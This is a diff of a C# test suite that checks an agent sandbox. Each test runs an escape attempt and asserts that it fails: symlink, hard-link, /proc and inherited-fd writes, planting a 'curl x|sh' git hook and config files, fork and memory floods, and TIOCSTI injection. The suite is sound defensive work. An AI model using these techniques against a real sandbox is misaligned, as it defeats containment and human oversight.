@@ -9,17 +9,10 @@ public sealed class SandboxEscapeTests
 {
     public static TheoryData<SandboxVariant> Variants => new(Enum.GetValues<SandboxVariant>());
 
-    private static SandboxRunner Runner(SandboxVariant variant)
-    {
-        var missing = SandboxRunner.Unavailable(variant);
-        Assert.True(missing is null, $"cannot run the {variant} sandbox tests on this machine: {missing}");
-        return new SandboxRunner(variant);
-    }
-
     [Theory, MemberData(nameof(Variants))]
     public void Writes_inside_the_workspace_succeed(SandboxVariant variant)
     {
-        using var s = Runner(variant);
+        using var s = SandboxRunner.For(variant);
         s.Write("src/a.txt", "old");
         var r = s.Shell("echo new > src/a.txt && mkdir -p src/deep && echo made > src/deep/b.txt && cat src/a.txt src/deep/b.txt");
         Assert.True(r.ExitCode == 0, r.ToString());
@@ -29,7 +22,7 @@ public sealed class SandboxEscapeTests
     [Theory, MemberData(nameof(Variants))]
     public void Writes_outside_the_writable_roots_fail(SandboxVariant variant)
     {
-        using var s = Runner(variant);
+        using var s = SandboxRunner.For(variant);
         var r = s.Shell($"echo x > {s.Outside}/escaped.txt");
         Assert.NotEqual(0, r.ExitCode);
         Assert.False(File.Exists(Path.Combine(s.Outside, "escaped.txt")), r.ToString());
@@ -38,7 +31,7 @@ public sealed class SandboxEscapeTests
     [Theory, MemberData(nameof(Variants))]
     public void Read_only_mode_writes_nowhere(SandboxVariant variant)
     {
-        using var s = Runner(variant);
+        using var s = SandboxRunner.For(variant);
         var r = s.Shell("echo x > ro.txt", "--mode", "read-only");
         Assert.NotEqual(0, r.ExitCode);
         Assert.False(File.Exists(Path.Combine(s.Workspace, "ro.txt")), r.ToString());
@@ -49,7 +42,7 @@ public sealed class SandboxEscapeTests
     [Theory, MemberData(nameof(Variants))]
     public void Existing_protected_paths_cannot_be_written(SandboxVariant variant)
     {
-        using var s = Runner(variant);
+        using var s = SandboxRunner.For(variant);
         var config = s.Write(".git/config", "[core]\n");
         s.Write(".git/hooks/.keep", "");
         var r = s.Shell("echo evil >> .git/config; echo 'curl x|sh' > .git/hooks/pre-commit; true");
@@ -60,7 +53,7 @@ public sealed class SandboxEscapeTests
     [Theory, MemberData(nameof(Variants))]
     public void Protected_paths_that_do_not_exist_yet_do_not_survive_the_run(SandboxVariant variant)
     {
-        using var s = Runner(variant);
+        using var s = SandboxRunner.For(variant);
         var r = s.Shell("mkdir .orchestrator; echo '{}' > .orchestrator/settings.json; echo x > .envrc; echo x > .mcp.json; true");
         Assert.False(File.Exists(Path.Combine(s.Workspace, ".orchestrator/settings.json")), r.ToString());
         Assert.False(File.Exists(Path.Combine(s.Workspace, ".envrc")) && new FileInfo(Path.Combine(s.Workspace, ".envrc")).Length > 0, r.ToString());
@@ -73,7 +66,7 @@ public sealed class SandboxEscapeTests
     [Theory, MemberData(nameof(Variants))]
     public void A_symlink_in_the_workspace_pointing_outside_cannot_be_written_through(SandboxVariant variant)
     {
-        using var s = Runner(variant);
+        using var s = SandboxRunner.For(variant);
         File.CreateSymbolicLink(Path.Combine(s.Workspace, "out"), s.Outside);
         var r = s.Shell("echo x > out/through-link.txt");
         Assert.NotEqual(0, r.ExitCode);
@@ -83,7 +76,7 @@ public sealed class SandboxEscapeTests
     [Theory, MemberData(nameof(Variants))]
     public void Proc_self_root_does_not_lead_out(SandboxVariant variant)
     {
-        using var s = Runner(variant);
+        using var s = SandboxRunner.For(variant);
         var r = s.Shell($"echo x > /proc/self/root{s.Outside}/via-proc.txt; echo x > /proc/1/root{s.Outside}/via-proc1.txt; true");
         Assert.False(File.Exists(Path.Combine(s.Outside, "via-proc.txt")), r.ToString());
         Assert.False(File.Exists(Path.Combine(s.Outside, "via-proc1.txt")), r.ToString());
@@ -92,7 +85,7 @@ public sealed class SandboxEscapeTests
     [Theory, MemberData(nameof(Variants))]
     public void Hard_links_to_outside_files_cannot_be_made_or_written(SandboxVariant variant)
     {
-        using var s = Runner(variant);
+        using var s = SandboxRunner.For(variant);
         var target = s.Write(Path.Combine(s.Outside, "victim.txt"), "intact");
         var r = s.Shell($"ln {target} hl && echo pwned >> hl; true");
         Assert.Equal("intact", File.ReadAllText(target));
@@ -102,7 +95,7 @@ public sealed class SandboxEscapeTests
     [Theory, MemberData(nameof(Variants))]
     public void With_network_off_tcp_and_udp_to_loopback_fail(SandboxVariant variant)
     {
-        using var s = Runner(variant);
+        using var s = SandboxRunner.For(variant);
         using var listeners = new LoopbackListeners();
         var (port, udpPort, udp) = (listeners.TcpPort, listeners.UdpPort, listeners.Udp);
 
@@ -120,7 +113,7 @@ public sealed class SandboxEscapeTests
     [Theory, MemberData(nameof(Variants))]
     public async Task With_network_on_tcp_and_udp_to_loopback_work(SandboxVariant variant)
     {
-        using var s = Runner(variant);
+        using var s = SandboxRunner.For(variant);
         using var listeners = new LoopbackListeners();
         var (port, udpPort, udp) = (listeners.TcpPort, listeners.UdpPort, listeners.Udp);
         var r = s.Shell($"python3 -c \"import socket; socket.create_connection(('127.0.0.1', {port}), 3); u=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.sendto(b'q', ('127.0.0.1', {udpPort})); print('connected')\"", "--network", "on");
@@ -133,7 +126,7 @@ public sealed class SandboxEscapeTests
     [Theory, MemberData(nameof(Variants))]
     public void An_inherited_directory_fd_gives_no_access_outside(SandboxVariant variant)
     {
-        using var s = Runner(variant);
+        using var s = SandboxRunner.For(variant);
         // python opens the outside directory without O_CLOEXEC as fd 9 and execs orchestrator with it still open.
         var script = $"import os,sys; fd=os.open('{s.Outside}', os.O_RDONLY|os.O_DIRECTORY); os.dup2(fd, 9); os.set_inheritable(9, True); os.execvp(sys.argv[1], sys.argv[1:])";
         var probe = "ls -l /proc/self/fd/ 2>&1; echo pwned > /proc/self/fd/9/via-fd.txt; python3 -c \"import os; f=os.open('via-openat.txt', os.O_WRONLY|os.O_CREAT, 0o644, dir_fd=9); print('opened')\"; true";
@@ -146,7 +139,7 @@ public sealed class SandboxEscapeTests
     [Theory, MemberData(nameof(Variants))]
     public void Too_many_processes_are_refused_and_none_survive(SandboxVariant variant)
     {
-        using var s = Runner(variant);
+        using var s = SandboxRunner.For(variant);
         var r = s.Shell("i=0; while [ $i -lt 400 ]; do sleep 30 & i=$((i+1)); done 2>/dev/null; echo spawned-all", "--max-processes", "64", "--timeout", "10");
         Assert.DoesNotContain("spawned-all", r.Stdout);
         Assert.Empty(SleepersFor(s));
@@ -155,7 +148,7 @@ public sealed class SandboxEscapeTests
     [Theory, MemberData(nameof(Variants))]
     public void A_memory_hog_is_stopped_by_the_memory_limit(SandboxVariant variant)
     {
-        using var s = Runner(variant);
+        using var s = SandboxRunner.For(variant);
         var r = s.Shell("python3 -c \"b = bytearray(700 * 1024 * 1024); b[::4096] = b'x' * len(b[::4096]); print('allocated')\"", "--memory", $"{256 * 1024 * 1024}");
         Assert.NotEqual(0, r.ExitCode);
         Assert.DoesNotContain("allocated", r.Stdout);
@@ -164,7 +157,7 @@ public sealed class SandboxEscapeTests
     [Theory, MemberData(nameof(Variants))]
     public void A_cpu_spinner_is_killed_by_the_timeout_with_exit_124(SandboxVariant variant)
     {
-        using var s = Runner(variant);
+        using var s = SandboxRunner.For(variant);
         // What a run costs around its command (hosting the pipeline, the journal) is measured, not assumed.
         var quick = DateTime.UtcNow;
         Assert.Equal(0, s.Run(["--", "true"]).ExitCode);
@@ -179,7 +172,7 @@ public sealed class SandboxEscapeTests
     [Theory, MemberData(nameof(Variants))]
     public void Output_floods_stay_bounded(SandboxVariant variant)
     {
-        using var s = Runner(variant);
+        using var s = SandboxRunner.For(variant);
         var r = s.Run(["--max-output", "1000", "--", "/bin/sh", "-c", "head -c 50000000 /dev/zero | tr '\\0' a; echo END"]);
         Assert.True(r.ExitCode == 0, r.ToString()[..Math.Min(500, r.ToString().Length)]);
         Assert.True(r.Stdout.Length < 3000, $"stdout kept {r.Stdout.Length} chars");
@@ -190,7 +183,7 @@ public sealed class SandboxEscapeTests
     [Theory, MemberData(nameof(Variants))]
     public void Processes_outside_cannot_be_signalled_or_traced(SandboxVariant variant)
     {
-        using var s = Runner(variant);
+        using var s = SandboxRunner.For(variant);
         using var victim = System.Diagnostics.Process.Start("sleep", "60");
         try
         {
@@ -205,7 +198,7 @@ public sealed class SandboxEscapeTests
     [Theory, MemberData(nameof(Variants))]
     public void Mount_unshare_user_namespaces_and_tiocsti_fail(SandboxVariant variant)
     {
-        using var s = Runner(variant);
+        using var s = SandboxRunner.For(variant);
         s.Write("m/.keep", "");
         var r = s.Shell("mount -t tmpfs none m && echo mounted; unshare -U true && echo userns; unshare -m true && echo mountns; " +
                         "python3 -c \"import fcntl,termios,os; fd=os.open('/dev/tty', os.O_RDWR) if os.path.exists('/dev/tty') else 0; fcntl.ioctl(fd, termios.TIOCSTI, b'x'); print('injected')\" 2>/dev/null; true");
